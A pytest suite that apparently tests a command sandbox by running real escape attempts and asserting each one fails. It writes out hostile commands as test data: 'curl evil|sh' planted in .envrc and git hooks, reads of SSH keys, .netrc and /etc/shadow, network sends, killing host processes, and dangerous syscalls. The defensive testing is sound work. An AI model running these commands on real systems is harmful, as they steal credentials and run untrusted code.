"""Real escape attempts from inside the sandbox. Each must fail, and each test also checks the
host side (the file is unchanged, the listener saw nothing, the process is alive) so that a
sandbox that only *reports* failure would not pass."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import textwrap
import threading
import time
from pathlib import Path

import pytest

from tests.sandbox.conftest import Box

SYSCALL = textwrap.dedent("""
    import ctypes, errno, sys
    libc = ctypes.CDLL(None, use_errno=True)
    nr = {nr}
    r = libc.syscall(nr, {args})
    print("ok" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), "?"))
""")


def test_write_outside_roots_fails(box: Box) -> None:
    target = box.outside / "f"
    target.write_text("orig")
    r = box.sh(f"echo pwned > {target}; echo pwned > /usr/corral-pwned; touch /etc/corral-x")
    assert "Read-only file system" in r.stderr
    assert target.read_text() == "orig"
    assert not Path("/usr/corral-pwned").exists() and not Path("/etc/corral-x").exists()


def test_workspace_write_works(box: Box) -> None:
    r = box.sh("echo hello > out.txt && mkdir -p a/b && echo x > a/b/c")
    assert r.returncode == 0, r.stderr
    assert (box.ws / "out.txt").read_text() == "hello\n"


def test_read_only_profile_cannot_write_workspace(box: Box) -> None:
    r = box.sh("echo x > out.txt", profile=":read-only")
    assert r.returncode != 0
    assert not (box.ws / "out.txt").exists()


def test_symlink_pointing_out(box: Box) -> None:
    target = box.outside / "f"
    target.write_text("orig")
    (box.ws / "planted").symlink_to(target)
    r = box.sh(f"ln -s {target} link; echo pwned > link; echo pwned > planted; "
               f"ln -s {box.outside} dirlink; echo x > dirlink/new")
    assert r.stderr.count("Read-only file system") >= 3, r.stderr
    assert target.read_text() == "orig"
    assert not (box.outside / "new").exists()


def test_hardlink_pointing_out(box: Box) -> None:
    target = box.outside / "f"
    target.write_text("orig")
    r = box.sh(f"ln {target} hl && echo pwned > hl")
    assert r.returncode != 0
    assert "Invalid cross-device link" in r.stderr or "Operation not permitted" in r.stderr
    assert target.read_text() == "orig"


def test_hardlink_to_protected_file_inside_root(box: Box) -> None:
    git = box.ws / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    r = box.sh("ln .git/config cfg && echo '[core] hooksPath=/x' >> cfg")
    assert r.returncode != 0
    assert (git / "config").read_text() == "[core]\n"


def test_git_hooks_and_config_protected_rest_writable(box: Box) -> None:
    git = box.ws / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "objects").mkdir()
    (git / "config").write_text("[core]\n")
    r = box.sh("echo evil > .git/hooks/pre-commit; echo evil >> .git/config; "
               "echo ok > .git/objects/x && echo wrote-objects")
    assert "wrote-objects" in r.stdout
    assert not (git / "hooks" / "pre-commit").exists()
    assert (git / "config").read_text() == "[core]\n"


def test_renaming_protected_dirs_away_fails(box: Box) -> None:
    git = box.ws / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    (box.ws / ".vscode").mkdir()
    r = box.sh("mv .git/hooks .git/h2; mv .git .git2; mv .vscode vs2; rm -rf .git/hooks; "
               "rm -f .git/config; true")
    assert r.stderr.count("Device or resource busy") >= 3, r.stderr
    assert (git / "hooks").is_dir() and (git / "config").exists()
    assert not (box.ws / ".git2").exists() and (box.ws / ".vscode").is_dir()


def test_missing_protected_paths_cannot_be_created_and_leave_nothing(box: Box) -> None:
    before = sorted(p.name for p in box.ws.iterdir())
    r = box.sh("echo 'curl evil|sh' > .envrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json;"
               " echo '{}' > .mcp.json; mkdir .codex/x; true")
    assert r.returncode == 0
    for name in (".envrc", ".mcp.json"):
        assert not (box.ws / name).is_file()
    assert not (box.ws / ".vscode" / "tasks.json").exists()
    # placeholders are removed after the run
    assert sorted(p.name for p in box.ws.iterdir()) == before


def test_shell_rc_files_protected(box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    (box.ws / ".profile").write_text("# user profile\n")
    r = box.sh("echo evil >> .profile; echo x > .bashrc; echo ok")
    assert (box.ws / ".profile").read_text() == "# user profile\n"  # existing: read-only
    assert (box.ws / ".bashrc").read_text() == "x\n"  # not home: creating one is harmless
    # when the writable root is the home directory, creating rc files is blocked too
    monkeypatch.setenv("HOME", str(box.outside))
    box.outside.joinpath(".profile").write_text("# home profile\n")
    r = box.sh("echo evil > .bashrc; echo evil > .zshenv; echo evil >> .profile; true",
               cwd=box.outside, writable_roots=[box.outside])
    assert r.returncode == 0
    assert not (box.outside / ".bashrc").is_file() and not (box.outside / ".zshenv").is_file()
    assert (box.outside / ".profile").read_text() == "# home profile\n"
    assert sorted(p.name for p in box.outside.iterdir()) == [".profile"]


def test_gitdir_pointer_file_is_followed(box: Box) -> None:
    real = box.ws / "realgit"
    (real / "hooks").mkdir(parents=True)
    (real / "objects").mkdir()
    (real / "config").write_text("[core]\n")
    (box.ws / ".git").write_text("gitdir: realgit\n")
    r = box.sh("echo evil > realgit/hooks/post-checkout; echo evil >> realgit/config; "
               "echo 'gitdir: /tmp/evil' > .git; echo ok > realgit/objects/o && echo wrote")
    assert "wrote" in r.stdout
    assert not (real / "hooks" / "post-checkout").exists()
    assert (real / "config").read_text() == "[core]\n"
    assert (box.ws / ".git").read_text() == "gitdir: realgit\n"


def test_planted_ssh_key_and_corral_home_unreadable(box: Box) -> None:
    ssh = box.home / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text("PRIVATE-KEY-MATERIAL")
    (box.home / ".netrc").write_text("machine x password NETRC-SECRET")
    (box.corral_home / "config.toml").write_text("SECRET-CORRAL")
    r = box.sh(f"cat {ssh}/id_ed25519; ls {ssh}; cat {box.home}/.netrc; "
               f"cat {box.corral_home}/config.toml; true")
    for secret in ("PRIVATE-KEY-MATERIAL", "NETRC-SECRET", "SECRET-CORRAL", "id_ed25519"):
        assert secret not in r.stdout
    assert "Permission denied" in r.stderr


def test_deny_read_glob_from_config(box: Box) -> None:
    (box.ws / "sub").mkdir()
    (box.ws / "sub" / ".env").write_text("DB_PASSWORD=hunter2")
    r = box.sh("cat sub/.env; true", deny_read=["**/.env"])
    assert "hunter2" not in r.stdout


def _tcp_listener() -> tuple[socket.socket, int, list[bytes]]:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    srv.settimeout(3)
    got: list[bytes] = []

    def accept() -> None:
        try:
            conn, _ = srv.accept()
            got.append(conn.recv(100))
            conn.close()
        except OSError:
            pass

    threading.Thread(target=accept, daemon=True).start()
    return srv, srv.getsockname()[1], got


CONNECT = "import socket; s=socket.create_connection(('127.0.0.1', {port}), 2); s.send(b'hi'); print('connected')"


def test_tcp_to_loopback_listener_blocked(box: Box) -> None:
    srv, port, got = _tcp_listener()
    try:
        r = box.py(CONNECT.format(port=port))
        assert r.returncode != 0 and "connected" not in r.stdout
        assert "PermissionError" in r.stderr or "Operation not permitted" in r.stderr
        time.sleep(0.2)
        assert got == []
    finally:
        srv.close()


def test_tcp_allowed_with_host_network(box: Box) -> None:
    """Control: the same client reaches the listener when the profile allows the network."""
    srv, port, got = _tcp_listener()
    try:
        r = box.py(CONNECT.format(port=port), network="host")
        assert "connected" in r.stdout, r.stderr
        for _ in range(30):
            if got:
                break
            time.sleep(0.05)
        assert got == [b"hi"]
    finally:
        srv.close()


def test_udp_to_loopback_blocked(box: Box) -> None:
    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.bind(("127.0.0.1", 0))
    rx.settimeout(0.5)
    port = rx.getsockname()[1]
    try:
        r = box.py(f"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                   f"s.sendto(b'leak', ('127.0.0.1', {port})); print('sent')")
        assert "sent" not in r.stdout
        with pytest.raises(TimeoutError):
            rx.recvfrom(100)
    finally:
        rx.close()


def test_host_unix_socket_unreachable_socketpair_works(box: Box) -> None:
    path = box.ws / "host.sock"  # inside the workspace: visible, but socket() is denied
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(str(path))
    srv.listen()
    srv.settimeout(1)
    try:
        r = box.py(f"import socket\na, b = socket.socketpair(); a.send(b'x'); "
                   f"print('pair', b.recv(1))\ns = socket.socket(socket.AF_UNIX)\n"
                   f"s.connect({str(path)!r}); print('connected')", network="host")
        assert "pair b'x'" in r.stdout, r.stderr
        assert "connected" not in r.stdout
        with pytest.raises(TimeoutError):
            srv.accept()
    finally:
        srv.close()


def test_netlink_and_packet_sockets_denied(box: Box) -> None:
    r = box.py("import socket\nfor fam, t in ((16, 3), (17, 3)):\n"
               "    try:\n        socket.socket(fam, t); print('open', fam)\n"
               "    except OSError as e:\n        print('denied', fam, e.errno)")
    assert "denied 16 1" in r.stdout and "denied 17 1" in r.stdout, r.stdout + r.stderr


def test_signalling_host_process_fails(box: Box) -> None:
    victim = subprocess.Popen(["sleep", "30"])
    try:
        assert victim.poll() is None
        r = box.sh(f"kill -9 {victim.pid}; echo rc=$?; echo done")
        # the command really ran in the sandbox (a sandbox that failed to start prints nothing)
        assert r.stdout.rstrip().endswith("done"), (r.stdout, r.stderr)
        status = int(r.stdout.split("rc=")[1].split()[0])
        assert status != 0, r.stdout
        with pytest.raises(subprocess.TimeoutExpired):  # still alive a moment later
            victim.wait(timeout=0.3)
    finally:
        victim.kill()
        victim.wait()


def test_env_secrets_do_not_leak(box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-zq9v-1")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-zq9v-2")
    monkeypatch.setenv("db_password", "zq9v-3")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "zq9v-4")
    monkeypatch.setenv("HARMLESS", "visible")
    r = box.sh("env", env_extra={"CORRAL_SESSION_ID": "s1", "CORRAL_CALL_ID": "c1",
                                 "TRACEPARENT": "00-abc-def-01"})
    assert "zq9v" not in r.stdout
    assert "HARMLESS=visible" in r.stdout and "CORRAL_SANDBOX=1" in r.stdout
    assert "CORRAL_SESSION_ID=s1" in r.stdout and "TRACEPARENT=00-abc-def-01" in r.stdout


@pytest.mark.parametrize(("name", "nr", "args"), [
    ("ptrace(PTRACE_TRACEME)", 101, "0, 0, 0, 0"),
    ("process_vm_readv", 310, "1, 0, 0, 0, 0, 0"),
    ("pidfd_getfd", 438, "0, 0, 0"),
    ("io_uring_setup", 425, "1, 0"),
    ("bpf", 321, "0, 0, 0"),
    ("perf_event_open", 298, "0, 0, -1, -1, 0"),
    ("keyctl", 250, "0, 0, 0, 0, 0"),
    ("add_key", 248, "0, 0, 0, 0, 0"),
    ("unshare(CLONE_NEWUSER)", 272, "0x10000000"),
    ("mount", 165, "0, 0, 0, 0, 0"),
    ("open_by_handle_at", 304, "0, 0, 0"),
])
def test_dangerous_syscalls_get_eperm(box: Box, name: str, nr: int, args: str) -> None:
    r = box.py(SYSCALL.format(nr=nr, args=args))
    assert r.stdout.strip() == "EPERM", f"{name}: {r.stdout} {r.stderr}"


def test_ptrace_attach_to_sibling_fails(box: Box) -> None:
    code = ("import ctypes, errno, os, time\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "pid = os.fork()\nif pid == 0:\n    time.sleep(5); os._exit(0)\n"
            "r = libc.ptrace(16, pid, 0, 0)\nprint(errno.errorcode[ctypes.get_errno()] "
            "if r < 0 else 'attached')\nos.kill(pid, 9)")
    r = box.py(code)
    assert r.stdout.strip() == "EPERM", r.stdout + r.stderr


def test_root_is_confined(box: Box) -> None:
    if os.geteuid() != 0:
        pytest.fail("this test checks that the sandbox confines root; run it as root")
    r = box.sh("grep CapEff /proc/self/status; grep NoNewPrivs /proc/self/status; "
               "touch /root/x 2>&1; unshare -r true 2>&1; echo done")
    assert "CapEff:\t0000000000000000" in r.stdout
    assert "NoNewPrivs:\t1" in r.stdout
    assert not Path("/root/x").exists()


def test_tiocsti_blocked(box: Box) -> None:
    r = box.py("import fcntl, termios, errno\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b'x')\n"
               "except OSError as e:\n    print(errno.errorcode[e.errno])")
    assert r.stdout.strip() == "EPERM", r.stdout + r.stderr


def test_pid_namespace_hides_host_processes(box: Box) -> None:
    r = box.sh("ls /proc | grep -c '^[0-9]'")
    assert int(r.stdout.strip()) < 10


def test_die_with_parent_and_exit_status(box: Box) -> None:
    r = box.sh("exit 42")
    assert r.returncode == 42
    r = box.sh("kill -TERM $$")
    assert r.returncode != 0


def test_sigkill_of_sandbox_kills_command(box: Box) -> None:
    marker = box.ws / "late"
    sb = box.sandbox()
    proc = sb.spawn(["/bin/sh", "-c", f"sleep 1; touch {marker}"], box.ws)
    time.sleep(0.3)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    time.sleep(1.3)
    assert not marker.exists()


def test_concurrent_runs_keep_placeholders_until_the_last_one_ends(box: Box) -> None:
    """Run A ends while run B is still going: B's protection must hold (A may not remove
    the shared placeholders under B), and once B ends nothing is left behind."""
    sb = box.sandbox()
    a = sb.spawn(["/bin/sh", "-c", "sleep 0.3"], box.ws)
    b = sb.spawn(["/bin/sh", "-c", "sleep 1; echo evil > .envrc; mkdir -p .vscode/x; true"],
                 box.ws, stderr=subprocess.PIPE)
    assert a.wait() == 0
    assert (box.ws / ".envrc").is_dir()  # still B's placeholder
    _, err = b.communicate(timeout=10)
    sb.close()
    assert b.returncode == 0
    assert b"Is a directory" in err or b"Read-only" in err
    assert list(box.ws.iterdir()) == []


def test_repo_created_during_a_run_is_reported_if_it_can_run_code(box: Box) -> None:
    import io

    sb = box.sandbox()
    clean = sb.run(["git", "init", "-q", "."], box.ws, stderr_sink=io.StringIO())
    assert clean.returncode == 0 and clean.warnings == []
    sub = box.ws / "sub"
    sub.mkdir()
    sb = box.sandbox(writable_roots=[sub])
    r = sb.run(["sh", "-c", "cd sub && git init -q . && echo 'curl x|sh' > .git/hooks/pre-commit"
                " && git config core.hooksPath .githooks"], box.ws, stderr_sink=io.StringIO())
    sb.close()
    assert r.returncode == 0
    assert len(r.warnings) == 1
    assert ".git/hooks/pre-commit" in r.warnings[0] and "hookspath" in r.warnings[0]
    # the next run sees the repository and protects it
    box.sh("echo evil > sub/.git/hooks/post-merge; true", writable_roots=[sub])
    assert not (sub / ".git" / "hooks" / "post-merge").exists()


def test_submodule_gitdir_hooks_protected(box: Box) -> None:
    mod = box.ws / ".git" / "modules" / "lib"
    (mod / "hooks").mkdir(parents=True)
    (mod / "HEAD").write_text("ref: refs/heads/main\n")
    (mod / "config").write_text("[core]\n")
    r = box.sh("echo x > .git/modules/lib/hooks/post-checkout; echo y >> .git/modules/lib/config;"
               " echo ok > .git/modules/lib/HEAD2 && echo wrote")
    assert "wrote" in r.stdout
    assert not (mod / "hooks" / "post-checkout").exists()
    assert (mod / "config").read_text() == "[core]\n"


def test_root_owned_secrets_hidden(box: Box) -> None:
    if not Path("/etc/shadow").exists():
        pytest.fail("/etc/shadow missing on this host: cannot check root-owned secrets")
    r = box.sh("cat /etc/shadow; echo rc=$?")
    assert "root:" not in r.stdout and "rc=0" not in r.stdout


def test_background_processes_do_not_outlive_the_run(box: Box) -> None:
    marker = box.ws / "late"
    r = box.sh(f"(sleep 1; touch {marker}) & echo started")
    assert "started" in r.stdout
    time.sleep(1.5)
    assert not marker.exists()


def test_profile_without_root_sees_only_what_it_lists(box: Box) -> None:
    (box.outside / "data.txt").write_text("outside")
    profiles = {"tight": {"filesystem": {":minimal": "read", ":cwd": "write"}}}
    r = box.sh(f"cat {box.outside}/data.txt; ls /root /home 2>&1 | head -3; "
               "echo ok > here.txt && cat /etc/hostname >/dev/null && echo fine",
               profile="tight", user_profiles=profiles)
    assert "outside" not in r.stdout
    assert "fine" in r.stdout, r.stderr
    assert (box.ws / "here.txt").read_text() == "ok\n"


def test_unwritable_workspace_is_not_an_error(box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where we cannot create a placeholder (EACCES/EROFS), the command (same uid, no caps)
    cannot create the protected path either: run anyway instead of crashing."""
    from corral.sandbox import protected

    assert protected.create_placeholder(Path("/proc/corral-placeholder")) is False

    def denied(path: object, mode: int = 0o777) -> None:
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(protected.os, "mkdir", denied)
    r = box.sh("echo ok")
    assert r.returncode == 0 and r.stdout == "ok\n", r.stderr
